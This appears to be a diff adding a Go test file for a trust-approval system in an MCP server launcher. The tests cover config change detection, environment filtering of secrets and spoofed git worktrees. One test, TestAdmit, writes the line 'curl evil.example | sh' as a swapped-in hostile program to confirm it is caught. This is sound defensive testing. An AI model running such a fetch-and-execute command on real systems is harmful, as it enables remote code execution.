@@ -1,0 +1,403 @@
+package trust
+
+import (
+	"context"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"runtime"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/google/go-cmp/cmp"
+
+	"github.com/mcp-launchpad/mcpl/pkg/config"
+	"github.com/mcp-launchpad/mcpl/pkg/fault"
+)
+
+// world is a home, and a project with a configuration of one server, x.
+type world struct {
+	t    *testing.T
+	env  config.Env
+	vars map[string]string
+}
+
+func newWorld(t *testing.T) *world {
+	t.Helper()
+	root := t.TempDir()
+	w := &world{t: t, vars: map[string]string{}}
+	w.env = config.Env{Dir: filepath.Join(root, "project"), Home: filepath.Join(root, "home"), GOOS: "linux",
+		Lookup: func(name string) (string, bool) { value, ok := w.vars[name]; return value, ok }}
+	w.write(filepath.Join(w.env.Home, "x"), "")
+	w.write("run.sh", "echo 1")
+	return w
+}
+
+func (w *world) write(path, content string) {
+	w.t.Helper()
+	if !filepath.IsAbs(path) {
+		path = filepath.Join(w.env.Dir, path)
+	}
+	if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
+		w.t.Fatal(err)
+	}
+	if err := os.WriteFile(path, []byte(content), 0o700); err != nil {
+		w.t.Fatal(err)
+	}
+}
+
+// server returns the server x of an entry in the project's configuration, as the judge sees it.
+func (w *world) server(entry string, folders ...string) *config.Server {
+	w.t.Helper()
+	w.write(".mcp.json", `{"mcpServers": {"x": `+entry+`}}`)
+	return w.load(folders...)
+}
+
+func (w *world) load(folders ...string) *config.Server {
+	w.t.Helper()
+	env := w.env
+	env.Approver = NewJudge(env, folders)
+	src, err := env.Locate(config.Selection{Trusted: folders})
+	if err != nil {
+		w.t.Fatal(err)
+	}
+	cfg, err := env.Load(src)
+	if err != nil {
+		w.t.Fatal(err)
+	}
+	s, err := cfg.Server("x")
+	if err != nil {
+		w.t.Fatal(err)
+	}
+	return s
+}
+
+func (w *world) approve(s *config.Server) {
+	w.t.Helper()
+	subject, err := Of(s)
+	if err != nil {
+		w.t.Fatal(err)
+	}
+	if err := BookIn(w.env.StateDir()).Approve(w.t.Context(), subject.Approval(time.Unix(1, 0))); err != nil {
+		w.t.Fatal(err)
+	}
+}
+
+func TestF1NewServer(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t)
+	entry := `{"command": "./run.sh", "args": ["--db", "${DB:-x}", "--token", "abcd-secret"], "env": {"T": "${GITHUB_TOKEN:-none}"}}`
+	s := w.server(entry)
+	f := fault.From(s.Usable())
+	if !fault.Is(f, fault.ApprovalRequired) || f.Approval == nil || f.Approval.Kind != "trust" || f.Server != "x" {
+		t.Fatalf("%+v", f)
+	}
+	all := f.Message + f.Next[0].Why + f.Traceback + f.Approval.Command
+	for _, text := range []string{"./run.sh --db", "${DB:-x}", "GITHUB_TOKEN", "no one has approved it"} {
+		if !strings.Contains(all, text) {
+			t.Errorf("%q is not said: %s", text, all)
+		}
+	}
+	if strings.Contains(all, "abcd-secret") {
+		t.Errorf("a secret is shown: %s", all)
+	}
+	if step := f.Next[1].Step; step.Verb != "trust" || step.Server != "x" {
+		t.Errorf("next %+v", step)
+	}
+	w.approve(s)
+	if s := w.load(); s.Usable() != nil {
+		t.Errorf("approved: %v", s.Usable())
+	}
+	if err := s.Admit(); err != nil {
+		t.Errorf("approved meanwhile: %v", err)
+	}
+}
+
+// TestChanges: what decides about the program and what it gets needs a new approval, all else does not.
+func TestChanges(t *testing.T) {
+	t.Parallel()
+	const before = `{"command": "./run.sh", "args": ["a", "--f=data/in.txt"], "env": {"A": "1", "B": "${V:-}"}, "headers": {}}`
+	for name, test := range map[string]struct {
+		change func(w *world) string // returns the new entry
+		again  bool
+	}{
+		"nothing": {func(*world) string { return before }, false},
+		"layout":  {func(*world) string { return "// so\n" + before }, false},
+		"a limit": {func(*world) string {
+			return strings.Replace(before, `{"c`, `{"callTimeout": "9s", "idle": "1m", "c`, 1)
+		}, false},
+		"order of env": {func(*world) string {
+			return strings.Replace(before, `"A": "1", "B": "${V:-}"`, `"B": "${V:-}", "A": "1"`, 1)
+		}, false},
+		"an argument":  {func(*world) string { return strings.Replace(before, `"a"`, `"b"`, 1) }, true},
+		"a variable":   {func(*world) string { return strings.Replace(before, "${V:-}", "${AWS_SECRET_ACCESS_KEY:-}", 1) }, true},
+		"an empty one": {func(*world) string { return strings.Replace(before, `"A": "1"`, `"A": "1", "C": ""`, 1) }, true},
+		"the folder":   {func(*world) string { return strings.Replace(before, `{"c`, `{"cwd": "data", "c`, 1) }, true},
+		"roots":        {func(*world) string { return strings.Replace(before, `{"c`, `{"roots": [], "c`, 1) }, true},
+		"environment":  {func(*world) string { return strings.Replace(before, `{"c`, `{"inheritEnv": true, "c`, 1) }, true},
+		"an address":   {func(*world) string { return `{"url": "https://h.example/mcp"}` }, true},
+		"the program":  {func(w *world) string { w.write("run.sh", "echo 2"); return before }, true},
+		"a file":       {func(w *world) string { w.write("data/in.txt", "other"); return before }, true},
+		"another file": {func(w *world) string { w.write("data/out.txt", "other"); return before }, false},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			w := newWorld(t)
+			w.write("data/in.txt", "x")
+			w.approve(w.server(before))
+			if err := w.server(before).Usable(); err != nil {
+				t.Fatal(err)
+			}
+			err := w.server(test.change(w)).Usable()
+			if (err != nil) != test.again {
+				t.Errorf("approval needed again: %v, want %t", err, test.again)
+			}
+			if test.again && (!fault.Is(err, fault.ApprovalRequired) || !strings.Contains(err.Error(), "changed")) {
+				t.Errorf("%v", err)
+			}
+		})
+	}
+}
+
+// TestAdmit: a file that was swapped after the configuration was read is noticed before it runs.
+func TestAdmit(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t)
+	w.approve(w.server(`{"command": "./run.sh"}`))
+	s := w.load()
+	if err := errors.Join(s.Usable(), s.Admit()); err != nil {
+		t.Fatal(err)
+	}
+	w.write("run.sh", "curl evil.example | sh")
+	if err := s.Admit(); !fault.Is(err, fault.ApprovalRequired) {
+		t.Errorf("a swapped program: %v", err)
+	}
+}
+
+func TestEnvironment(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t)
+	environ := func(s *config.Server) string {
+		return strings.Join(s.Environ([]string{"PATH=p", "HOME=h", "AWS_SECRET_ACCESS_KEY=k", "EDITOR=e", "LC_ALL=C",
+			"npm_config_registry=r", "npm_config__authToken=t", "https_proxy=q", "XDG_CACHE_HOME=c"}), " ")
+	}
+	const minimal = "PATH=p HOME=h LC_ALL=C npm_config_registry=r https_proxy=q XDG_CACHE_HOME=c"
+	s := w.server(`{"command": "./run.sh", "env": {"A": "1"}}`)
+	w.approve(s)
+	if got := environ(w.load()); got != minimal+" A=1" {
+		t.Errorf("approved: %s", got)
+	}
+	s = w.server(`{"command": "./run.sh", "inheritEnv": true}`)
+	w.approve(s)
+	if got := environ(w.load()); !strings.Contains(got, "AWS_SECRET") {
+		t.Errorf("with inheritEnv: %s", got)
+	}
+	s = w.server(`{"command": "./run.sh"}`)
+	if err := NewJudge(w.env, nil).Adopt(s); err != nil {
+		t.Fatal(err)
+	}
+	if s := w.load(); s.Usable() != nil || !strings.Contains(environ(s), "AWS_SECRET") {
+		t.Errorf("adopted: %v, %s", s.Usable(), environ(s))
+	}
+	w.vars["MCPL_TRUST"] = "all"
+	if s := w.server(`{"command": "other"}`); s.Usable() != nil || environ(s) != minimal {
+		t.Errorf("MCPL_TRUST=all: %v, %s", s.Usable(), environ(s))
+	}
+	w.vars["MCPL_TRUST"] = ""
+	if s := w.load(); s.Usable() == nil {
+		t.Error("an empty MCPL_TRUST trusts")
+	}
+	if s := w.load(filepath.Dir(w.env.Dir)); s.Usable() != nil {
+		t.Errorf("in a trusted folder: %v", s.Usable())
+	}
+}
+
+// TestStamp: an index knows by the stamp that approvals changed.
+func TestStamp(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t)
+	s := w.server(`{"command": "./run.sh"}`)
+	judge := NewJudge(w.env, nil)
+	first := judge.Stamp()
+	w.approve(s)
+	second := judge.Stamp()
+	if first == second || second != NewJudge(w.env, nil).Stamp() || second == NewJudge(w.env, []string{"/x"}).Stamp() {
+		t.Errorf("stamps %q, %q", first, second)
+	}
+}
+
+// git runs git in a folder.
+func git(t *testing.T, dir string, args ...string) {
+	t.Helper()
+	cmd := exec.Command("git", args...)
+	cmd.Dir = dir
+	cmd.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL="+os.DevNull, "GIT_AUTHOR_NAME=a", "GIT_AUTHOR_EMAIL=a@b",
+		"GIT_COMMITTER_NAME=a", "GIT_COMMITTER_EMAIL=a@b")
+	if out, err := cmd.CombinedOutput(); err != nil {
+		t.Fatalf("git %s: %v\n%s", args, err, out)
+	}
+}
+
+// TestWorktree: a worktree shares the approvals of its repository, another clone does not, and a clone cannot claim to
+// be a worktree.
+func TestWorktree(t *testing.T) {
+	t.Parallel()
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("there is no git")
+	}
+	w := newWorld(t)
+	const entry = `{"command": "./run.sh"}`
+	s := w.server(entry)
+	git(t, w.env.Dir, "init", "-q")
+	git(t, w.env.Dir, "add", ".")
+	git(t, w.env.Dir, "commit", "-qm", "x")
+	w.approve(s)
+	main, others := w.env.Dir, filepath.Dir(w.env.Dir)
+	git(t, main, "worktree", "add", "-q", filepath.Join(others, "tree"))
+	git(t, main, "clone", "-q", main, filepath.Join(others, "clone"))
+	try := func(dir string) error {
+		w.env.Dir = dir
+		return w.load().Usable()
+	}
+	if err := try(filepath.Join(others, "tree")); err != nil {
+		t.Errorf("a worktree: %v", err)
+	}
+	w.write("run.sh", "echo changed in the worktree")
+	if err := try(filepath.Join(others, "tree")); err == nil {
+		t.Error("a worktree with another program is approved")
+	}
+	clone := filepath.Join(others, "clone")
+	if err := try(clone); err == nil {
+		t.Error("a clone is approved")
+	}
+	if err := os.RemoveAll(filepath.Join(clone, ".git")); err != nil {
+		t.Fatal(err)
+	}
+	w.write(".git", "gitdir: "+filepath.Join(main, ".git", "worktrees", "tree")+"\n")
+	if err := try(clone); err == nil {
+		t.Error("a clone that claims to be a worktree is approved")
+	}
+	// It may bring a folder that points back to it, but that is not in the repository.
+	w.write(".git", "gitdir: "+filepath.Join(clone, "fake", "worktrees", "a")+"\n")
+	w.write("fake/worktrees/a/gitdir", filepath.Join(clone, ".git"))
+	w.write("fake/worktrees/a/commondir", filepath.Join(main, ".git"))
+	if err := try(clone); err == nil {
+		t.Error("a clone with a worktree of its own making is approved")
+	}
+	link := filepath.Join(others, "link")
+	if err := os.Symlink(main, link); err != nil {
+		t.Fatal(err)
+	}
+	if err := try(link); err != nil {
+		t.Errorf("a link to the project: %v", err)
+	}
+}
+
+func TestBook(t *testing.T) {
+	t.Parallel()
+	b := BookIn(filepath.Join(t.TempDir(), "state"))
+	if list, err := b.Read(); list != nil || err != nil {
+		t.Errorf("no file: %v, %v", list, err)
+	}
+	var wg sync.WaitGroup
+	for i := range 20 {
+		wg.Go(func() {
+			a := Approval{Project: "/p", Server: fmt.Sprint("s", i%10), Hash: strings.Repeat("0", 64)}
+			if err := b.Approve(t.Context(), a); err != nil {
+				t.Error(err)
+			}
+		})
+	}
+	wg.Wait()
+	list, err := b.Read()
+	if len(list) != 10 || err != nil {
+		t.Errorf("%d approvals, %v", len(list), err)
+	}
+	gone, err := b.Revoke(t.Context(), func(a Approval) bool { return a.Server == "s3" })
+	if len(gone) != 1 || err != nil {
+		t.Errorf("revoked %v, %v", gone, err)
+	}
+	if list, _ = b.Read(); len(list) != 9 {
+		t.Errorf("%d approvals are left", len(list))
+	}
+	info, err := os.Stat(b.Path)
+	if err != nil || runtime.GOOS != "windows" && info.Mode().Perm() != 0o600 {
+		t.Errorf("%v, %v", info.Mode(), err)
+	}
+}
+
+// TestBookDamaged: a file that cannot be read approves nothing, and is neither replaced nor moved.
+func TestBookDamaged(t *testing.T) {
+	t.Parallel()
+	good := `{"version": 1, "approvals": []}`
+	for name, content := range map[string]string{
+		"cut": good[:10], "garbage": "\x00\x01", "future": `{"version": 2, "approvals": []}`, "no version": `{"approvals": []}`,
+		"more": good + good, "condition": `{"version": 1, "approvals": [], "only": "x"}`, "list": `[]`,
+		"no hash": `{"version": 1, "approvals": [{"project": "/p", "server": "x", "hash": ""}]}`, "empty": "",
+	} {
+		w := newWorld(t)
+		b := BookIn(w.env.StateDir())
+		w.write(b.Path, content)
+		s := w.server(`{"command": "./run.sh"}`)
+		if err := s.Usable(); !fault.Is(err, fault.ApprovalRequired) {
+			t.Errorf("%s: %v", name, err)
+		} else if f := fault.From(err); !strings.Contains(f.Traceback, b.Path) {
+			t.Errorf("%s: the file is not named: %s", name, f.Traceback)
+		}
+		if err := b.Approve(t.Context(), Approval{}); !fault.Is(err, fault.Config) {
+			t.Errorf("%s: approve: %v", name, err)
+		}
+		if now, err := os.ReadFile(b.Path); string(now) != content || err != nil {
+			t.Errorf("%s: it is %q now, %v", name, now, err)
+		}
+	}
+}
+
+// TestFixture reads a file of version 1.
+func TestFixture(t *testing.T) {
+	t.Parallel()
+	list, err := Book{Path: filepath.Join("testdata", "trust.v1.json")}.Read()
+	want := []Approval{{Project: "/home/ada/app/.git .", Server: "x", Hash: strings.Repeat("ab", 32), Folder: "/home/ada/app",
+		Terms: []string{"command: ./run.sh"}, WholeEnv: true, Approved: time.Date(2026, 11, 22, 6, 0, 0, 0, time.UTC)}}
+	if diff := cmp.Diff(want, list); err != nil || diff != "" {
+		t.Errorf("%v, -want +got\n%s", err, diff)
+	}
+}
+
+func FuzzParse(f *testing.F) {
+	data, err := os.ReadFile(filepath.Join("testdata", "trust.v1.json"))
+	if err != nil {
+		f.Fatal(err)
+	}
+	f.Add(data)
+	f.Add([]byte(`{"version": 1}`))
+	f.Fuzz(func(t *testing.T, data []byte) {
+		list, err := parse(data)
+		if err != nil {
+			return
+		}
+		again, err := json.Marshal(layout{version, list})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if back, err := parse(again); err != nil || len(back) != len(list) {
+			t.Fatalf("%d approvals become %d: %v", len(list), len(back), err)
+		}
+	})
+}
+
+// TestLocked: an approval that cannot be written says so.
+func TestLocked(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t)
+	w.write("file", "")
+	b := BookIn(filepath.Join(w.env.Dir, "file"))
+	if err := b.Approve(context.Background(), Approval{}); !fault.Is(err, fault.Config) {
+		t.Errorf("%v", err)
+	}
+}
